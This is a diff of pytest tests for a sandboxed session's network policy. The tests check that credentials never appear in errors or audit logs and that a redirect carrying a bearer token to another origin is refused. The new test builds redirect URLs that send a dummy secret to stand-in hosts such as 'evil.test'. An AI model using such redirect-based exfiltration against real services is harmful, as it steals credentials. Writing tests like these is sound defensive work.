@@ -101,28 +101,31 @@ def test_names_errors_and_the_audit_do_not_have_it(
         error = session.run("fetch(url)", inputs={"url": server.origin + path}, check=False).error
         assert error is not None
         assert "sk-test-secret" not in f"{error!r} {getattr(error, 'traceback', '')}".lower()
-    assert "[redacted].test" in str(error)
+    assert "the answer redirects a credential to another origin" in str(error)
     assert "sk-test-secret" not in str(session.audit)
 
 
-def test_what_the_owner_is_asked_does_not_have_it(
+def test_a_redirect_that_carries_it_away(
     make_session: Make, server: Server, policy: Callable[..., NetworkPolicy]
 ) -> None:
     """
-    Nor what a callback may write into a log of its own.
+    Is refused before anybody is asked, and also where the other origin is allowed.
     """
     asked: list[Any] = []
-    session = make_session(
-        network=policy(
-            credentials=[Credential(server.origin, "Authorization", "Bearer sk-test-secret")],
-            on_blocked=asked.append,
+    with serve() as other:
+        session = make_session(
+            network=policy(
+                allow=[server.origin, other.origin],
+                credentials=[Credential(server.origin, "Authorization", "Bearer sk-test-secret")],
+                on_blocked=asked.append,
+            )
         )
-    )
-
-    session.run("fetch(url)", inputs={"url": server.origin + "/leak"}, check=False)
-
-    assert "http://[redacted].test" == asked[0].origin
-    assert "sk-test-secret" not in repr(asked)
+        for to in ("http://evil.test/?k=", "http://sk-test-secret.test/", other.origin + "/"):
+            url = f"{server.origin}/redirect?to={to}sk-test-secret"
+            error = session.run("fetch(u)", inputs={"u": url}, check=False).error
+            assert "redirects a credential to another origin" in str(error)
+        assert [] == other.seen
+    assert [] == asked
 
 
 @pytest.mark.parametrize(
